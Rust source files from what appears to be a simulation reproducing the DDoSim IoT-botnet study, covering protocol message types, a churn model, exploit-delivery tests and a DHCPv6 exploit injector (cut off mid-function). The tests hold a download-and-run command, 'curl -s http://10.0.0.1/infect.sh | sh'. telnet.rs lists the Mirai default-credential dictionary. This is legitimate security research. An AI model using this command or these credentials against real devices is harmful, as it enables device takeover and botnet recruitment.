//! RELAY-FORW message to the IPv6 All_DHCP_Relay_Agents_and_Servers
//! multicast group; the vulnerable daemon overflows a stack buffer while
//! handling the relay message's link address options.

use std::fmt;

/// DHCPv6 client port (servers/relays listen on 547, clients on 546).
pub const DHCPV6_SERVER_PORT: u16 = 547;
/// DHCPv6 client port.
pub const DHCPV6_CLIENT_PORT: u16 = 546;

/// One DHCPv6 option (code + raw data).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dhcpv6Option {
    /// Option code.
    pub code: u16,
    /// Raw option data.
    pub data: Vec<u8>,
}

impl Dhcpv6Option {
    /// Creates an option.
    pub fn new(code: u16, data: Vec<u8>) -> Self {
        Dhcpv6Option { code, data }
    }

    /// Bytes on the wire (code + length + data).
    pub fn wire_size(&self) -> u32 {
        4 + self.data.len() as u32
    }
}

/// DHCPv6 message kinds relevant to the experiment.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Dhcpv6Kind {
    /// Client solicitation.
    Solicit,
    /// Server advertisement.
    Advertise,
    /// Relay-forward (the vulnerable handling path in Dnsmasq).
    RelayForw,
    /// Relay-reply.
    RelayRepl,
}

impl fmt::Display for Dhcpv6Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Dhcpv6Kind::Solicit => "SOLICIT",
            Dhcpv6Kind::Advertise => "ADVERTISE",
            Dhcpv6Kind::RelayForw => "RELAY-FORW",
            Dhcpv6Kind::RelayRepl => "RELAY-REPL",
        };
        f.write_str(s)
    }
}

/// A DHCPv6 message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dhcpv6Message {
    /// Message kind.
    pub kind: Dhcpv6Kind,
    /// Transaction id (24 bits in reality).
    pub transaction_id: u32,
    /// Options carried by the message.
    pub options: Vec<Dhcpv6Option>,
}

impl Dhcpv6Message {
    /// Creates a message with no options.
    pub fn new(kind: Dhcpv6Kind, transaction_id: u32) -> Self {
        Dhcpv6Message {
            kind,
            transaction_id,
            options: Vec::new(),
        }
    }

    /// Adds an option (builder style).
    pub fn with_option(mut self, option: Dhcpv6Option) -> Self {
        self.options.push(option);
        self
    }

    /// Looks up the first option with `code`.
    pub fn option(&self, code: u16) -> Option<&Dhcpv6Option> {
        self.options.iter().find(|o| o.code == code)
    }

    /// Bytes on the wire: 4-byte header (+ 34 bytes of relay addresses for
    /// relay messages) plus options.
    pub fn wire_size(&self) -> u32 {
        let header = match self.kind {
            Dhcpv6Kind::RelayForw | Dhcpv6Kind::RelayRepl => 34,
            _ => 4,
        };
        header + self.options.iter().map(Dhcpv6Option::wire_size).sum::<u32>()
    }
}

/// Option code used by the exploit to smuggle its overflow payload
/// (modelled after OPTION_RELAY_MSG = 9).
pub const OPTION_RELAY_MSG: u16 = 9;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relay_messages_have_bigger_headers() {
        let s = Dhcpv6Message::new(Dhcpv6Kind::Solicit, 1);
        let r = Dhcpv6Message::new(Dhcpv6Kind::RelayForw, 1);
        assert!(r.wire_size() > s.wire_size());
    }

    #[test]
    fn options_add_size_and_are_findable() {
        let m = Dhcpv6Message::new(Dhcpv6Kind::RelayForw, 2)
            .with_option(Dhcpv6Option::new(OPTION_RELAY_MSG, vec![0xCC; 300]));
        assert!(m.wire_size() > 300);
        assert_eq!(m.option(OPTION_RELAY_MSG).map(|o| o.data.len()), Some(300));
        assert!(m.option(99).is_none());
    }

    #[test]
    fn kind_display() {
        assert_eq!(Dhcpv6Kind::RelayForw.to_string(), "RELAY-FORW");
    }
}
