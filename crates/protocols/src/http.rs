//! Minimal HTTP messages for the Attacker's file server.
//!
//! The infection chain downloads a shell script and an architecture-specific
//! malware binary over HTTP (`curl -s URL | sh`, then `wget`/`curl` of the
//! bot binary), exactly as the paper's Apache-based File Server serves them.

use netsim::Payload;
use std::fmt;

/// The standard HTTP port.
pub const HTTP_PORT: u16 = 80;

/// An HTTP request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpRequest {
    /// Request method (GET in this reproduction).
    pub method: String,
    /// Requested path, e.g. `/bins/mirai.x86`.
    pub path: String,
}

impl HttpRequest {
    /// A GET request for `path`.
    pub fn get(path: impl Into<String>) -> Self {
        HttpRequest {
            method: "GET".to_owned(),
            path: path.into(),
        }
    }

    /// Approximate bytes on the wire (request line + minimal headers).
    pub fn wire_size(&self) -> u32 {
        (self.method.len() + self.path.len() + 64) as u32
    }
}

impl fmt::Display for HttpRequest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.method, self.path)
    }
}

/// An HTTP response. The body is a typed simulation payload with a declared
/// size (the file's bytes are simulated, not encoded).
#[derive(Debug, Clone)]
pub struct HttpResponse {
    /// Status code (200, 404, ...).
    pub status: u16,
    /// Typed body (e.g. a `firmware` file object).
    pub body: Payload,
    /// Declared body size in bytes.
    pub body_bytes: u32,
}

impl HttpResponse {
    /// A 200 OK response carrying `body` of `body_bytes` bytes.
    pub fn ok(body: Payload, body_bytes: u32) -> Self {
        HttpResponse {
            status: 200,
            body,
            body_bytes,
        }
    }

    /// A 404 Not Found response.
    pub fn not_found() -> Self {
        HttpResponse {
            status: 404,
            body: Payload::empty(),
            body_bytes: 0,
        }
    }

    /// Whether the status indicates success.
    pub fn is_ok(&self) -> bool {
        (200..300).contains(&self.status)
    }

    /// Approximate bytes on the wire (status line + headers + body).
    pub fn wire_size(&self) -> u32 {
        96 + self.body_bytes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn get_builds_requests() {
        let r = HttpRequest::get("/bins/mirai.x86");
        assert_eq!(r.method, "GET");
        assert_eq!(r.to_string(), "GET /bins/mirai.x86");
        assert!(r.wire_size() > 64);
    }

    #[test]
    fn responses_carry_sized_bodies() {
        let ok = HttpResponse::ok(Payload::new("script"), 1024);
        assert!(ok.is_ok());
        assert_eq!(ok.wire_size(), 96 + 1024);
        let nf = HttpResponse::not_found();
        assert!(!nf.is_ok());
        assert_eq!(nf.body_bytes, 0);
    }
}
