//! # protocols — typed protocol messages for the DDoSim reproduction
//!
//! Typed simulation messages exchanged over `netsim` packets: DNS (Connman
//! exploit delivery), DHCPv6 (Dnsmasq exploit delivery), HTTP (the
//! Attacker's file server), telnet (C&C admin console and the
//! credential-scanner baseline), and the Mirai-style bot ↔ C&C protocol.
//!
//! Wire *sizes* are realistic approximations (they drive link timing and
//! congestion); wire *encodings* are elided — payloads travel as typed
//! values, the standard packet-level-simulation compromise.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod cnc;
pub mod dhcpv6;
pub mod dns;
pub mod http;
pub mod telnet;

pub use cnc::{AttackCommand, AttackVector, CncMessage, FloodMarker, CNC_PORT, SINGLE_INSTANCE_PORT};
pub use dhcpv6::{Dhcpv6Kind, Dhcpv6Message, Dhcpv6Option, DHCPV6_CLIENT_PORT, DHCPV6_SERVER_PORT, OPTION_RELAY_MSG};
pub use dns::{DnsMessage, DnsRecord, DNS_PORT};
pub use http::{HttpRequest, HttpResponse, HTTP_PORT};
pub use telnet::{mirai_dictionary, Credential, TelnetMessage, SSH_PORT, TELNET_PORT};
