//! Telnet messages: the C&C admin console and the Mirai-classic credential
//! scanner both speak line-oriented telnet.

use std::fmt;

/// The standard telnet port.
pub const TELNET_PORT: u16 = 23;
/// The standard SSH port (killed by the bot's self-defense).
pub const SSH_PORT: u16 = 22;

/// A line-oriented telnet exchange unit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TelnetMessage {
    /// Server prompt (e.g. `login:`, `password:`, `$`).
    Prompt(String),
    /// Client input line.
    Line(String),
}

impl TelnetMessage {
    /// The carried text.
    pub fn text(&self) -> &str {
        match self {
            TelnetMessage::Prompt(s) | TelnetMessage::Line(s) => s,
        }
    }

    /// Bytes on the wire (text + CRLF + telnet negotiation overhead).
    pub fn wire_size(&self) -> u32 {
        self.text().len() as u32 + 4
    }
}

impl fmt::Display for TelnetMessage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TelnetMessage::Prompt(s) => write!(f, "<- {s}"),
            TelnetMessage::Line(s) => write!(f, "-> {s}"),
        }
    }
}

/// A username/password pair, as used by the Mirai-classic dictionary.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Credential {
    /// Username.
    pub user: String,
    /// Password.
    pub pass: String,
}

impl Credential {
    /// Creates a credential pair.
    pub fn new(user: impl Into<String>, pass: impl Into<String>) -> Self {
        Credential {
            user: user.into(),
            pass: pass.into(),
        }
    }
}

impl fmt::Display for Credential {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.user, self.pass)
    }
}

/// The credential dictionary shipped with the published Mirai source
/// (abridged to the classic 20 highest-weight entries).
pub fn mirai_dictionary() -> Vec<Credential> {
    [
        ("root", "xc3511"),
        ("root", "vizxv"),
        ("root", "admin"),
        ("admin", "admin"),
        ("root", "888888"),
        ("root", "xmhdipc"),
        ("root", "default"),
        ("root", "juantech"),
        ("root", "123456"),
        ("root", "54321"),
        ("support", "support"),
        ("root", ""),
        ("admin", "password"),
        ("root", "root"),
        ("root", "12345"),
        ("user", "user"),
        ("admin", ""),
        ("root", "pass"),
        ("admin", "admin1234"),
        ("root", "1111"),
    ]
    .into_iter()
    .map(|(u, p)| Credential::new(u, p))
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wire_size_tracks_text() {
        assert!(TelnetMessage::Line("enable".into()).wire_size()
            > TelnetMessage::Line("ls".into()).wire_size());
    }

    #[test]
    fn text_accessor() {
        assert_eq!(TelnetMessage::Prompt("login:".into()).text(), "login:");
        assert_eq!(TelnetMessage::Line("root".into()).text(), "root");
    }

    #[test]
    fn dictionary_has_classic_entries() {
        let d = mirai_dictionary();
        assert_eq!(d.len(), 20);
        assert!(d.contains(&Credential::new("root", "xc3511")));
        assert!(d.contains(&Credential::new("admin", "admin")));
    }

    #[test]
    fn credential_display() {
        assert_eq!(Credential::new("root", "pass").to_string(), "root:pass");
    }
}
