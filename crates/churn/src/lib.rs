//! # churn — IoT network churn (Fan et al.)
//!
//! Implements the churn model the paper adopts (§IV-A, Eq. 1), from Fan et
//! al.'s churn-resilient task scheduling work \[22\]: a device's *leaving
//! factor* is `L(h) = (1 − q(h))(1 − e(h))` where `q` is link quality and
//! `e` remaining energy, and its *leaving probability* is a piecewise
//! scaling of `L(h)` with coefficients φ₁ = 0.16, φ₂ = 0.08, φ₃ = 0.04.
//!
//! Two variants, exactly as the paper defines them:
//!
//! * **static churn** — each device leaves with probability `l(h)` at the
//!   simulation's outset and never rejoins;
//! * **dynamic churn** — `l(h)` is re-estimated every 20 s, enabling
//!   intermittent departures and rejoins (a device that is down rejoins
//!   when its freshly-drawn conditions improve).

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

use netsim::{Application, Ctx, NodeId};
use rand::Rng;
use std::time::Duration;

/// Which churn variant an experiment uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum ChurnMode {
    /// No churn: all Devs persist (the paper's default for Fig. 3/Table I).
    #[default]
    None,
    /// Departures at t = 0 only, no rejoining.
    Static,
    /// Re-evaluated every [`DYNAMIC_CHURN_PERIOD`]; departures and rejoins.
    Dynamic,
}

impl std::fmt::Display for ChurnMode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ChurnMode::None => f.write_str("no churn"),
            ChurnMode::Static => f.write_str("static churn"),
            ChurnMode::Dynamic => f.write_str("dynamic churn"),
        }
    }
}

/// The paper's dynamic-churn re-estimation period.
pub const DYNAMIC_CHURN_PERIOD: Duration = Duration::from_secs(20);

/// The Fan et al. leaving-probability model.
///
/// # Examples
///
/// ```
/// use churn::FanChurnModel;
///
/// // A device with poor link quality (q=0.2) and low energy (e=0.3):
/// let l = FanChurnModel::leaving_factor(0.2, 0.3); // 0.56
/// let p = FanChurnModel::PAPER.leaving_probability(l);
/// assert!((p - 0.08 * 0.56).abs() < 1e-12); // second piece of Eq. 1
/// ```
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FanChurnModel {
    /// Coefficient for L(h) ≤ 0.4.
    pub phi1: f64,
    /// Coefficient for 0.4 < L(h) ≤ 0.7.
    pub phi2: f64,
    /// Coefficient for L(h) > 0.7.
    pub phi3: f64,
}

impl FanChurnModel {
    /// The coefficients used by Fan et al. and by the paper:
    /// φ₁ = 0.16, φ₂ = 0.08, φ₃ = 0.04.
    pub const PAPER: FanChurnModel = FanChurnModel {
        phi1: 0.16,
        phi2: 0.08,
        phi3: 0.04,
    };

    /// Leaving factor `L(h) = (1 − q)(1 − e)` for link quality `q` and
    /// remaining energy `e`, both in `[0, 1]`.
    ///
    /// # Panics
    ///
    /// Panics (debug builds) if `q` or `e` are outside `[0, 1]`.
    pub fn leaving_factor(q: f64, e: f64) -> f64 {
        debug_assert!((0.0..=1.0).contains(&q), "link quality out of range");
        debug_assert!((0.0..=1.0).contains(&e), "energy out of range");
        (1.0 - q) * (1.0 - e)
    }

    /// Leaving probability `l(h)` (Eq. 1): piecewise scaling of `L(h)`.
    pub fn leaving_probability(&self, leaving_factor: f64) -> f64 {
        let l = leaving_factor;
        let p = if l <= 0.4 {
            self.phi1 * l
        } else if l <= 0.7 {
            self.phi2 * l
        } else {
            self.phi3 * l
        };
        p.clamp(0.0, 1.0)
    }

    /// Convenience: `l(h)` straight from `q` and `e`.
    pub fn probability_from_conditions(&self, q: f64, e: f64) -> f64 {
        self.leaving_probability(Self::leaving_factor(q, e))
    }
}

impl Default for FanChurnModel {
    fn default() -> Self {
        FanChurnModel::PAPER
    }
}

/// Per-device churn bookkeeping.
#[derive(Debug, Clone, Copy)]
struct DeviceChurn {
    node: NodeId,
    down: bool,
}

/// Events the controller records (telemetry for the churn experiments).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChurnEvent {
    /// A device left the network.
    Left(NodeId),
    /// A device rejoined the network.
    Rejoined(NodeId),
}

const TIMER_EPOCH: u64 = 1;

/// The churn controller: an application (installed on an always-up
/// orchestration node) that takes Dev nodes down and up according to the
/// model.
#[derive(Debug)]
pub struct ChurnController {
    model: FanChurnModel,
    mode: ChurnMode,
    devices: Vec<DeviceChurn>,
    /// Recorded departures/rejoins (order preserved).
    pub events: Vec<ChurnEvent>,
    /// Total departures.
    pub departures: u64,
    /// Total rejoins.
    pub rejoins: u64,
}

impl ChurnController {
    /// Creates a controller over `devices`.
    pub fn new(model: FanChurnModel, mode: ChurnMode, devices: Vec<NodeId>) -> Self {
        ChurnController {
            model,
            mode,
            devices: devices
                .into_iter()
                .map(|node| DeviceChurn { node, down: false })
                .collect(),
            events: Vec::new(),
            departures: 0,
            rejoins: 0,
        }
    }

    /// Devices currently down.
    pub fn down_count(&self) -> usize {
        self.devices.iter().filter(|d| d.down).count()
    }

    fn epoch(&mut self, ctx: &mut Ctx<'_>) {
        for i in 0..self.devices.len() {
            // Fresh conditions each epoch: link quality and energy vary
            // with the environment (q, e ~ U[0,1], as the paper assigns
            // them randomly).
            let q: f64 = ctx.rng().gen();
            let e: f64 = ctx.rng().gen();
            let p = self.model.probability_from_conditions(q, e);
            let d = self.devices[i];
            if !d.down {
                if ctx.rng().gen_bool(p) {
                    self.devices[i].down = true;
                    self.departures += 1;
                    self.events.push(ChurnEvent::Left(d.node));
                    ctx.set_node_admin(d.node, false);
                }
            } else if self.mode == ChurnMode::Dynamic && !ctx.rng().gen_bool(p) {
                // Conditions improved: the device rejoins.
                self.devices[i].down = false;
                self.rejoins += 1;
                self.events.push(ChurnEvent::Rejoined(d.node));
                ctx.set_node_admin(d.node, true);
            }
        }
    }
}

impl Application for ChurnController {
    fn name(&self) -> &str {
        "churn-controller"
    }

    fn fork(&self, _map: &netsim::ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(ChurnController {
            model: self.model,
            mode: self.mode,
            devices: self.devices.clone(),
            events: self.events.clone(),
            departures: self.departures,
            rejoins: self.rejoins,
        }))
    }

    fn state_digest(&self, h: &mut netsim::StateHasher) {
        h.write_usize(self.devices.len());
        for d in &self.devices {
            h.write_usize(d.node.index());
            h.write_bool(d.down);
        }
        h.write_u64(self.departures);
        h.write_u64(self.rejoins);
        h.write_usize(self.events.len());
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        match self.mode {
            ChurnMode::None => {}
            ChurnMode::Static => self.epoch(ctx),
            ChurnMode::Dynamic => {
                self.epoch(ctx);
                ctx.set_timer(DYNAMIC_CHURN_PERIOD, TIMER_EPOCH);
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_EPOCH && self.mode == ChurnMode::Dynamic {
            self.epoch(ctx);
            ctx.set_timer(DYNAMIC_CHURN_PERIOD, TIMER_EPOCH);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn leaving_factor_formula() {
        assert_eq!(FanChurnModel::leaving_factor(1.0, 1.0), 0.0);
        assert_eq!(FanChurnModel::leaving_factor(0.0, 0.0), 1.0);
        let l = FanChurnModel::leaving_factor(0.5, 0.5);
        assert!((l - 0.25).abs() < 1e-12);
    }

    #[test]
    fn piecewise_coefficients_match_paper() {
        let m = FanChurnModel::PAPER;
        // L = 0.3 → φ1·L = 0.048
        assert!((m.leaving_probability(0.3) - 0.048).abs() < 1e-12);
        // L = 0.5 → φ2·L = 0.04
        assert!((m.leaving_probability(0.5) - 0.04).abs() < 1e-12);
        // L = 0.8 → φ3·L = 0.032
        assert!((m.leaving_probability(0.8) - 0.032).abs() < 1e-12);
    }

    #[test]
    fn boundaries_belong_to_lower_piece() {
        let m = FanChurnModel::PAPER;
        assert!((m.leaving_probability(0.4) - 0.16 * 0.4).abs() < 1e-12);
        assert!((m.leaving_probability(0.7) - 0.08 * 0.7).abs() < 1e-12);
    }

    #[test]
    fn probability_is_clamped() {
        let m = FanChurnModel {
            phi1: 10.0,
            phi2: 10.0,
            phi3: 10.0,
        };
        assert_eq!(m.leaving_probability(0.3), 1.0);
    }

    #[test]
    fn worst_conditions_give_small_probability() {
        // Counter-intuitive but faithful to Eq. 1: the highest leaving
        // factors use the smallest coefficient.
        let m = FanChurnModel::PAPER;
        let worst = m.probability_from_conditions(0.0, 0.0); // L = 1.0
        assert!((worst - 0.04).abs() < 1e-12);
    }

    #[test]
    fn controller_counts_devices() {
        let c = ChurnController::new(
            FanChurnModel::PAPER,
            ChurnMode::Static,
            vec![NodeId::from_index(1), NodeId::from_index(2)],
        );
        assert_eq!(c.down_count(), 0);
        assert_eq!(c.departures, 0);
    }

    #[test]
    fn mode_display() {
        assert_eq!(ChurnMode::None.to_string(), "no churn");
        assert_eq!(ChurnMode::Static.to_string(), "static churn");
        assert_eq!(ChurnMode::Dynamic.to_string(), "dynamic churn");
    }
}
