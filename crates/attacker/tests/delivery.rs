//! Exploit-delivery integration tests: the malicious DNS server and the
//! DHCPv6 injector driving real daemon instances over a live simulated
//! network (no core-framework assembly — the raw exchanges of §IV-A).

use attacker::{Dhcpv6Injector, ExploitForge, ExploitStrategy, MaliciousDnsServer};
use firmware::{CommandSet, ContainerHandle, DnsProxyDaemon, NetMgrDaemon, ServiceCore};
use netsim::topology::StarTopology;
use netsim::{LinkConfig, SimTime, Simulator};
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tinyvm::{catalog, Arch, Protections};

struct Net {
    sim: Simulator,
    attacker_node: netsim::NodeId,
    attacker_v4: std::net::IpAddr,
    dev_node: netsim::NodeId,
    container: ContainerHandle,
}

fn net() -> Net {
    let mut sim = Simulator::new(42);
    let mut star = StarTopology::new(&mut sim, "net");
    let attacker_node = sim.add_node("attacker");
    let dev_node = sim.add_node("dev");
    let am = star.attach(&mut sim, attacker_node, LinkConfig::default());
    star.attach(
        &mut sim,
        dev_node,
        LinkConfig::new(300_000, Duration::from_millis(10)),
    );
    let container = ContainerHandle::new(
        "dev",
        Arch::X86_64,
        dev_node,
        CommandSet::standard(),
        1_000_000,
    );
    Net {
        sim,
        attacker_node,
        attacker_v4: am.addr_v4,
        dev_node,
        container,
    }
}

// The command tries to fetch from a server nobody runs: delivery still
// proves EXEC happened, because the shell's CommandRun event is logged.
const CMD: &str = "curl -s http://10.0.0.1/infect.sh | sh";

#[test]
fn dns_leak_rebase_exchange_compromises_aslr_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(1);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::FULL,
        "connmand",
        &mut rng,
    );
    let daemon = n.sim.install_app(
        n.dev_node,
        Box::new(NetMgrDaemon::new(
            core,
            SocketAddr::new(n.attacker_v4, protocols::DNS_PORT),
            Duration::from_secs(3),
        )),
    );
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::LeakRebase, CMD);
    let server = n
        .sim
        .install_app(n.attacker_node, Box::new(MaliciousDnsServer::new(forge)));

    n.sim.run_until(SimTime::from_secs(20));

    let srv = n
        .sim
        .app_ref::<MaliciousDnsServer>(server)
        .expect("server alive");
    assert!(srv.probes_sent >= 1, "stage-1 probe sent");
    assert_eq!(srv.leaks_received, 1, "dev leaked exactly once");
    assert_eq!(srv.exploits_sent, 1, "one rebased exploit");
    let d = n.sim.app_ref::<NetMgrDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 1, "the chain ran");
    assert_eq!(d.core().crashes, 0, "no crashes under leak+rebase");
    // Shell spawned and ran the stage-1 command.
    assert!(n
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, firmware::ContainerEvent::CommandRun { command, .. } if command == CMD)));
}

#[test]
fn dns_static_chain_crashloops_aslr_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(2);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::ASLR,
        "connmand",
        &mut rng,
    );
    let daemon = n.sim.install_app(
        n.dev_node,
        Box::new(NetMgrDaemon::new(
            core,
            SocketAddr::new(n.attacker_v4, protocols::DNS_PORT),
            Duration::from_secs(3),
        )),
    );
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::StaticChain, CMD);
    let server = n
        .sim
        .install_app(n.attacker_node, Box::new(MaliciousDnsServer::new(forge)));
    // The attacker operator retries when no compromise is observed.
    for t in (10..60).step_by(10) {
        let server_id = server;
        n.sim.schedule_call(SimTime::from_secs(t), move |sim| {
            if let Some(s) = sim.app_mut::<MaliciousDnsServer>(server_id) {
                s.forget("10.0.0.3".parse().expect("dev v4"));
            }
        });
    }
    n.sim.run_until(SimTime::from_secs(60));
    let d = n.sim.app_ref::<NetMgrDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 0, "static chain never lands under ASLR");
    assert!(
        d.core().crashes >= 2,
        "daemon crashes repeatedly and is respawned: {}",
        d.core().crashes
    );
    assert!(!n.container.is_infected());
}

#[test]
fn dhcpv6_multicast_exchange_compromises_dnsmasq_daemon() {
    let mut n = net();
    let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(3);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::FULL,
        "dnsmasq",
        &mut rng,
    );
    let daemon = n
        .sim
        .install_app(n.dev_node, Box::new(DnsProxyDaemon::new(core)));
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::LeakRebase, CMD);
    let injector = n.sim.install_app(
        n.attacker_node,
        Box::new(Dhcpv6Injector::new(forge, Duration::from_secs(2))),
    );

    n.sim.run_until(SimTime::from_secs(15));

    let inj = n
        .sim
        .app_ref::<Dhcpv6Injector>(injector)
        .expect("injector alive");
    assert!(inj.probes_sent >= 2, "periodic multicast probes");
    // The daemon answers every probe with a leak; only the first triggers
    // an exploit (the injector marks the device exploited).
    assert!(inj.leaks_received >= 2, "got {}", inj.leaks_received);
    assert_eq!(inj.exploits_sent, 1);
    assert_eq!(inj.exploited_count(), 1);
    let d = n.sim.app_ref::<DnsProxyDaemon>(daemon).expect("daemon alive");
    assert!(d.relay_messages_seen >= 2, "probes + exploit all arrive via DHCPv6");
    assert_eq!(d.core().execs, 1);
}

#[test]
fn code_injection_is_blocked_but_daemon_survives() {
    let mut n = net();
    let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
    let mut rng = SmallRng::seed_from_u64(4);
    let core = ServiceCore::new(
        n.container.clone(),
        Arc::clone(&image),
        Protections::WX,
        "dnsmasq",
        &mut rng,
    );
    let daemon = n
        .sim
        .install_app(n.dev_node, Box::new(DnsProxyDaemon::new(core)));
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::CodeInjection, CMD);
    n.sim.install_app(
        n.attacker_node,
        Box::new(Dhcpv6Injector::new(forge, Duration::from_secs(2))),
    );
    n.sim.run_until(SimTime::from_secs(15));
    let d = n.sim.app_ref::<DnsProxyDaemon>(daemon).expect("daemon alive");
    assert_eq!(d.core().execs, 0);
    assert!(d.core().blocked >= 1, "W^X blocks and logs the attempt");
    assert_eq!(d.core().crashes, 0, "blocked exploits do not kill the daemon");
    assert!(n
        .container
        .state()
        .events
        .iter()
        .any(|e| matches!(e, firmware::ContainerEvent::ExploitBlocked { .. })));
}
