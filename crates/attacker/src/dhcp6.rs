//! The DHCPv6 injector exploiting Dnsmasq-like Devs.
//!
//! As in the paper, exploit delivery rides DHCPv6 RELAY-FORW messages sent
//! to the `ff02::1:2` multicast group ("there is no broadcast address in
//! IPv6", §IV-A). Under leak+rebase the exchange is:
//!
//! 1. Periodic multicast RELAY-FORW carrying a leak-probe option.
//! 2. Each listening Dev answers with a unicast ADVERTISE carrying the
//!    leaked address.
//! 3. The injector unicasts a per-device RELAY-FORW whose relay-message
//!    option holds the rebased ROP chain.

use crate::exploit::ExploitForge;
use firmware::{OPTION_LEAK_PROBE, OPTION_LEAK_VALUE};
use netsim::packet::all_dhcp_agents_v6;
use netsim::{Application, Ctx, ForkMap, Packet, Payload};
use protocols::{
    Dhcpv6Kind, Dhcpv6Message, Dhcpv6Option, DHCPV6_CLIENT_PORT, DHCPV6_SERVER_PORT,
    OPTION_RELAY_MSG,
};
use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

const TIMER_PROBE: u64 = 1;

/// The periodic DHCPv6 exploit injector ("a DHCP Python script runs and
/// periodically sends malformed DHCPv6 messages", §IV-A).
#[derive(Debug)]
pub struct Dhcpv6Injector {
    forge: ExploitForge,
    probe_interval: Duration,
    next_transaction: u32,
    exploited: HashSet<IpAddr>,
    /// Multicast probes sent.
    pub probes_sent: u64,
    /// Leak replies received.
    pub leaks_received: u64,
    /// Exploit payloads sent.
    pub exploits_sent: u64,
}

impl Dhcpv6Injector {
    /// Creates the injector; probes are multicast every `probe_interval`.
    pub fn new(forge: ExploitForge, probe_interval: Duration) -> Self {
        Dhcpv6Injector {
            forge,
            probe_interval,
            next_transaction: 1,
            exploited: HashSet::new(),
            probes_sent: 0,
            leaks_received: 0,
            exploits_sent: 0,
        }
    }

    /// Clears the exploited mark for `ip` (operator retry; see
    /// [`MaliciousDnsServer::forget`](crate::MaliciousDnsServer::forget)).
    pub fn forget(&mut self, ip: IpAddr) {
        self.exploited.remove(&ip);
    }

    /// Devices currently marked as exploited.
    pub fn exploited_count(&self) -> usize {
        self.exploited.len()
    }

    fn send(&mut self, ctx: &mut Ctx<'_>, to: SocketAddr, msg: Dhcpv6Message) {
        let bytes = msg.wire_size();
        let _ = ctx.udp_send(DHCPV6_CLIENT_PORT, to, Payload::new(msg), bytes);
    }

    fn multicast_probe(&mut self, ctx: &mut Ctx<'_>) {
        let tid = self.next_transaction;
        self.next_transaction += 1;
        let msg = if self.forge.needs_leak() {
            Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
                .with_option(Dhcpv6Option::new(OPTION_LEAK_PROBE, Vec::new()))
        } else {
            // One-shot strategies: multicast the static exploit itself.
            match self.forge.initial_payload() {
                Ok(payload) => {
                    self.exploits_sent += 1;
                    Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
                        .with_option(Dhcpv6Option::new(OPTION_RELAY_MSG, payload))
                }
                Err(_) => return,
            }
        };
        self.probes_sent += 1;
        let group = SocketAddr::new(all_dhcp_agents_v6(), DHCPV6_SERVER_PORT);
        self.send(ctx, group, msg);
    }
}

impl Application for Dhcpv6Injector {
    fn name(&self) -> &str {
        "dhcp6-injector"
    }

    fn fork(&self, _map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(Dhcpv6Injector {
            forge: self.forge.clone(),
            probe_interval: self.probe_interval,
            next_transaction: self.next_transaction,
            exploited: self.exploited.clone(),
            probes_sent: self.probes_sent,
            leaks_received: self.leaks_received,
            exploits_sent: self.exploits_sent,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(DHCPV6_CLIENT_PORT)
            .expect("DHCPv6 client port is free on the attacker node");
        ctx.set_timer(Duration::from_millis(500), TIMER_PROBE);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token != TIMER_PROBE {
            return;
        }
        self.multicast_probe(ctx);
        ctx.set_timer(self.probe_interval, TIMER_PROBE);
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        let Some(msg) = packet.payload.get::<Dhcpv6Message>() else {
            return;
        };
        if msg.kind != Dhcpv6Kind::Advertise {
            return;
        }
